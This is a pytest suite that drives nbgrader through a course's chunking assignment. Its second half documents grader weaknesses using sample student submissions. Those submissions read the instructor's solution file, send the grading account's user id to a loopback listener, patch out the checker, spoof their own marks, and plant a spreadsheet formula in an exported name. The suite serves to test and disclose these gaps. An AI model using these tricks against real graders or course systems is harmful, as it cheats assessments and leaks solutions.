"""The exercises in nbgrader's own hands: released, submitted, autograded, returned, exported.

The second half states what nbgrader does not protect from. Each of these was found by running it,
and `docs/instructor.md` claims no more than what stands here.
"""

from __future__ import annotations

import copy
import csv
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest

from classroom.exercises import ALL

pytestmark = [pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT, NOTEBOOK = "ps02_chunking", "chunking.ipynb"
TASKS = ("chunk_text", "chunk_offsets", "sentence_windows")
FULL = {"chunk_text": 6.0, "chunk_offsets": 4.0, "sentence_windows": 6.0}  # 16 in all
Marks = dict[str, dict[str, float | None]]


@dataclass(frozen=True)
class Course:
    """A course folder of nbgrader's, with one assignment of the lab."""

    root: Path

    def nbgrader(self, *words: str) -> subprocess.CompletedProcess[str]:
        # nbgrader calls alembic by name, which stands beside the interpreter.
        path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
        return subprocess.run(
            [sys.executable, "-m", "nbgrader", *words],
            cwd=self.root,
            env={**os.environ, "PATH": path},
            capture_output=True,
            text=True,
            timeout=200,
            check=False,
        )

    def submit(
        self, student: str, answers: dict[str, str], edit: Callable[[Any], None] | None = None
    ) -> None:
        """The released notebook with these answers in it, where nbgrader collects to."""
        notebook = nbformat.read(self.root / "exercises" / ASSIGNMENT / NOTEBOOK, as_version=4)
        for name, source in answers.items():
            cell(notebook, name).source = source
        if edit:
            edit(notebook)
        path = self.root / "submitted" / student / ASSIGNMENT / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(notebook, path)

    def marks(self) -> Marks:
        """Points by student and exercise, from the gradebook; None where nothing was graded."""
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{self.root / 'gradebook.db'}") as book:
            return {
                submission.student.id: {
                    grade.name.removesuffix("-test"): grade.auto_score
                    for notebook in submission.notebooks
                    for grade in notebook.grades
                }
                for submission in book.assignment_submissions(ASSIGNMENT)
            }


def cell(notebook: Any, grade_id: str) -> Any:
    [found] = [
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    ]
    return found


def solutions(*names: str) -> dict[str, str]:
    return {name: ALL[name].solution for name in names}


def with_line(name: str, line: str) -> str:
    """The model solution with one more line at its beginning."""
    head, first, rest = ALL[name].solution.partition("\n    if ")
    assert first
    return f"{head}\n    {line}{first}{rest}"


def new_course(root: Path) -> Course:
    """A course folder made from what the repository ships."""
    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, root / "solutions" / ASSIGNMENT)
    shutil.copyfile(ROOT / "nbgrader_config.py", root / "nbgrader_config.py")
    course = Course(root)
    made = course.nbgrader("generate_assignment", ASSIGNMENT, "--create")
    assert made.returncode == 0, made.stderr[-1500:]
    return course


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Course:
    return new_course(tmp_path_factory.mktemp("course"))


def another(released: Course, root: Path) -> Course:
    """A second course, without making the assignment once more."""
    shutil.copytree(
        released.root, root, ignore=shutil.ignore_patterns("submitted", "autograded", "feedback")
    )
    return Course(root)


# --- A class of four ------------------------------------------------------------------------------

NO_OVERLAP = """
def chunk_text(text: str, size: int, overlap: int) -> list[str]:
    if size <= 0 or not 0 <= overlap < size:
        raise ValueError("size must be above 0 and overlap from 0 to below size")
    return [text[start : start + size] for start in range(0, len(text), size)]
"""
CRASHES = """
def chunk_text(text: str, size: int, overlap: int) -> list[str]:
    return [text[0 : size // 0]]
"""


@pytest.fixture(scope="module")
def graded(released: Course, tmp_path_factory: pytest.TempPathFactory) -> Course:
    course = another(released, tmp_path_factory.mktemp("class") / "course")
    course.submit("amel", solutions(*TASKS))
    course.submit("bo", {})
    course.submit("chen", {**solutions(*TASKS), "chunk_text": NO_OVERLAP})
    course.submit("dita", {**solutions("chunk_offsets"), "chunk_text": CRASHES})
    done = course.nbgrader("autograde", ASSIGNMENT)
    assert done.returncode == 0, done.stderr[-1500:]
    return course


def test_each_student_gets_the_points_of_what_is_right(graded: Course) -> None:
    none = dict.fromkeys(TASKS, 0.0)
    assert graded.marks() == {
        "amel": FULL,
        "bo": none,
        "chen": {**FULL, "chunk_text": 0.0},
        "dita": {**none, "chunk_offsets": 4.0},
    }


def test_the_exported_table_has_the_same_totals(graded: Course) -> None:
    done = graded.nbgrader("export")
    assert done.returncode == 0, done.stderr[-1500:]
    with (graded.root / "grades.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    totals = {row["student_id"]: (float(row["score"]), float(row["max_score"])) for row in rows}
    assert totals == {"amel": (16, 16), "bo": (0, 16), "chen": (10, 16), "dita": (4, 16)}


def test_feedback_names_the_mistake_in_the_labs_words(graded: Course) -> None:
    done = graded.nbgrader("generate_feedback", ASSIGNMENT)
    assert done.returncode == 0, done.stderr[-1500:]
    pages = {
        student: (graded.root / "feedback" / student / ASSIGNMENT / "chunking.html").read_text(
            "utf-8"
        )
        for student in ("amel", "bo", "chen", "dita")
    }
    sentence = "Neighbouring chunks do not overlap"
    assert [name for name, page in pages.items() if sentence in page] == ["chen"]
    assert "ZeroDivisionError" in pages["dita"]
    assert "16.0 / 16.0" in pages["amel"]


# --- What nbgrader does not protect from ----------------------------------------------------------


@dataclass(frozen=True)
class Tried:
    """What came of a batch of tricks."""

    course: Course
    exit_code: int
    marks: Marks
    calls: list[bytes]


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on loopback: its port, and what it was told."""
    heard: list[bytes] = []

    def listen(server: socket.socket) -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                heard.append(connection.recv(100))

    with socket.create_server(("127.0.0.1", 0)) as server:
        thread = threading.Thread(target=listen, args=(server,), daemon=True)
        thread.start()
        yield server.getsockname()[1], heard


READS_THE_SOLUTION = """
import json, os, socket
with socket.create_connection(("127.0.0.1", {port})) as outside:
    outside.sendall(b"%d" % os.geteuid())
cells = json.load(open("../../../solutions/ps02_chunking/chunking.ipynb"))["cells"]
[found] = [c for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "chunk_text"]
exec("".join(found["source"]))
"""
NAMES_ITS_OWN_MARK = """
def sentence_windows(text, ends, size):
    import sys
    sys.displayhook(6)
"""
REPLACES_THE_CHECK = """
import types
import classroom.learner
classroom.learner.verdict = lambda *_: types.SimpleNamespace(right=True, text="")
def chunk_text(text, size, overlap): ...
def chunk_offsets(text, size, overlap): ...
def sentence_windows(text, ends, size): ...
"""


def give_oneself_a_mark(notebook: Any) -> None:
    cell(notebook, "chunk_text-test").source = "6"


def drop_a_test(notebook: Any) -> None:
    notebook.cells.remove(cell(notebook, "chunk_text-test"))


def copy_a_test(notebook: Any) -> None:
    copied = copy.deepcopy(cell(notebook, "chunk_text-test"))
    copied.id = "copied"
    notebook.cells.append(copied)


@pytest.fixture(scope="module")
def tried(
    released: Course,
    listener: tuple[int, list[bytes]],
    tmp_path_factory: pytest.TempPathFactory,
) -> Tried:
    """One batch, so that each also shows whether those after it are graded."""
    port, heard = listener
    course = another(released, tmp_path_factory.mktemp("tricks") / "course")
    noisy = with_line("chunk_offsets", "import sys; print('here', file=sys.stderr)")
    course.submit(
        "cunning",
        {
            "chunk_text": READS_THE_SOLUTION.format(port=port),
            "chunk_offsets": noisy,
            "sentence_windows": NAMES_ITS_OWN_MARK,
        },
    )
    course.submit("patched", {"chunk_text": REPLACES_THE_CHECK})
    course.submit(
        "changed",
        {**solutions("sentence_windows"), "chunk_offsets": "while True: pass"},
        give_oneself_a_mark,
    )
    course.submit("dropped", solutions(*TASKS), drop_a_test)
    course.submit("exits", {**solutions(*TASKS), "sentence_windows": "import os; os._exit(0)"})
    course.submit("strict", {**solutions(*TASKS), "chunk_text": accepts_bad_sizes()})
    done = course.nbgrader("autograde", ASSIGNMENT, "--ExecutePreprocessor.timeout=10")
    return Tried(course, done.returncode, course.marks(), heard)


def accepts_bad_sizes() -> str:
    """Right for every input but those that must be refused."""
    source = ALL["chunk_text"].solution
    changed = source.replace("raise ValueError(", "return list(")
    assert changed != source
    return changed


def test_a_cell_earns_all_or_nothing(tried: Tried) -> None:
    assert tried.marks["strict"] == {**FULL, "chunk_text": 0.0}


def test_submitted_code_reads_the_solutions_and_reaches_the_network(tried: Tried) -> None:
    assert tried.marks["cunning"]["chunk_text"] == 6.0
    assert tried.calls == [b"%d" % os.geteuid()]  # the account that grades


def test_a_right_answer_that_writes_to_stderr_earns_nothing(tried: Tried) -> None:
    assert tried.marks["cunning"]["chunk_offsets"] == 0.0


def test_a_wrong_answer_can_display_its_own_mark(tried: Tried) -> None:
    assert tried.marks["cunning"]["sentence_windows"] == 6.0


def test_a_submission_can_replace_the_check(tried: Tried) -> None:
    assert tried.marks["patched"] == FULL


def test_a_changed_test_cell_is_put_back(tried: Tried) -> None:
    """Here nbgrader does protect; and a loop without end costs one cell, not the rest."""
    assert tried.marks["changed"] == {
        "chunk_text": 0.0,
        "chunk_offsets": 0.0,
        "sentence_windows": 6.0,
    }


def test_a_deleted_test_cell_is_graded_by_nobody(tried: Tried) -> None:
    assert tried.marks["dropped"] == {**FULL, "chunk_text": None}


def test_a_submission_that_ends_the_kernel_loses_all_its_marks(tried: Tried) -> None:
    """Its other answers were right. The others are graded, and the command says that one failed."""
    assert tried.marks["exits"] == dict.fromkeys(TASKS)
    assert tried.exit_code == 1
    assert set(tried.marks) == {"changed", "cunning", "dropped", "exits", "patched", "strict"}


def test_a_copied_test_cell_stops_the_whole_batch(released: Course, tmp_path: Path) -> None:
    """As happens when a cell is copied and pasted. Whoever comes later is not graded."""
    course = another(released, tmp_path / "course")
    course.submit("ana", solutions(*TASKS), copy_a_test)
    course.submit("zoe", solutions(*TASKS))
    done = course.nbgrader("autograde", ASSIGNMENT)
    assert done.returncode == 1
    assert "use an old version" in done.stderr  # the reason that is given is another
    assert course.marks() == {"ana": dict.fromkeys(TASKS)}


def test_the_exported_table_is_not_quoted(graded: Course, tmp_path: Path) -> None:
    """A comma in a name shifts the columns; a spreadsheet runs what begins with `=`."""
    from nbgrader.api import Gradebook
    from nbgrader.plugins import CsvExportPlugin

    course, table = another(graded, tmp_path / "course"), tmp_path / "grades.csv"
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as book:
        book.update_or_create_student("amel", last_name="Ames, Jr", first_name="=1+1")
        CsvExportPlugin(to=str(table)).export(book)  # what `nbgrader export` calls
    with table.open(encoding="utf-8", newline="") as file:
        header, *rows = list(csv.reader(file))
    [row] = [row for row in rows if row[3] == "amel"]
    assert len(row) == len(header) + 1
    assert "=1+1" in row
